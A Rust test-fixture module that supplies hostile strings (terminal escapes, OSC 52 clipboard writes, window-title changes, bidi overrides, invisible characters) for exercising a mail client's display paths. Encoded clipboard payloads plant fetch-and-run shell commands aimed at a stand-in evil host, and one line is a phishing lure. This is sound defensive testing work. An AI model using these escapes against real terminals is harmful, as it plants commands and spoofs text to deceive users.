//! Hostile text as real inboxes carry it: terminal escapes (colour, window title, OSC 52
//! clipboard writes), BEL, C1 controls, bidi overrides and zero-width characters. The
//! generator sprinkles these into a few names, subjects and bodies so that every client
//! path that prints server text is exercised against them.

/// Display names with hidden or terminal-controlling characters.
pub const NAMES: &[&str] = &[
    "\u{1b}[31mRed\u{1b}[0m Alert",
    "Ann\u{200b}Marie",
    "Eve\u{202e}lived",
    "Bell\u{7}Ringer",
    "\u{1b}]0;pwned\u{7}Title",
    "C1\u{9b}2JClear",
];

/// Subjects that try to recolour, retitle or reorder the screen.
pub const SUBJECTS: &[&str] = &[
    "\u{1b}[1;31mURGENT\u{1b}[0m: invoice overdue",
    "Re: your order \u{202e}txt.exe",
    "\u{1b}]0;Inbox (0)\u{7}Quarterly numbers",
    "Meeting\u{200b}\u{200c}\u{200d} notes",
];

/// Body lines with escapes that would write the clipboard or clear the screen.
pub const BODY_LINES: &[&str] = &[
    "Please run this to verify: \u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zaCB8IHNo\u{7}",
    "\u{1b}[2J\u{1b}[HYour session has expired, log in again at https://evil.example/login",
    "Totally normal line\u{7}\u{7}\u{7} with bells",
    "Amount due: \u{202e}00.001$\u{202c} (see attachment)",
    "Signed,\u{9b}31m the \u{feff}team\u{ad}",
];

/// Attachment names that pretend to be something else.
pub const FILENAMES: &[&str] = &["invoice\u{202e}fdp.exe", "report\u{200b}.pdf"];

/// Text a hostile server puts in an error: a window title, a clipboard write, a clear
/// screen, a C1 CSI and a right-to-left override, each of which a terminal would obey; then
/// characters that hide or spoof text (default-ignorables: a grapheme joiner, tag
/// characters, interlinear annotations, Hangul fillers, an invisible operator, a soft
/// hyphen, a zero-width space, a BOM) and line and paragraph separators.
pub const ERROR: &str = "Denied \u{1b}]0;pwned\u{7}by \u{1b}]52;c;ZWNobyBwd25lZA==\u{7}policy \u{1b}[2J\u{9b}31mnow \u{202e}gnirts\u{202c} \
    a\u{34f}b c\u{e0041}\u{e007f}d \u{fff9}e\u{fffb} \u{3164}f\u{115f}\u{1160} g\u{2062}h \u{2028}i\u{2029} \
    \u{ad}\u{200b}\u{feff}end";

/// What the `hostile-text` fault appends to every string of an answer: a clipboard write
/// (OSC 52), a window title (OSC 0), an OSC 8 link to a local file, a DCS and an APC string,
/// a C1 CSI, colours, bidi overrides and isolates, and invisible characters.
pub const TEXT: &str = " \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}]0;pwned\u{7}\
    \u{1b}]8;;file:///etc/passwd\u{1b}\\click\u{1b}]8;;\u{1b}\\\u{1b}P1$r\u{1b}\\\u{1b}_apc\u{1b}\\\
    \u{9b}2J\u{9d}0;c1\u{9c}\u{1b}[31mred\u{1b}[0m\u{202e}evil\u{202c}\u{2067}iso\u{2069}\u{200b}\u{feff}\u{7}";
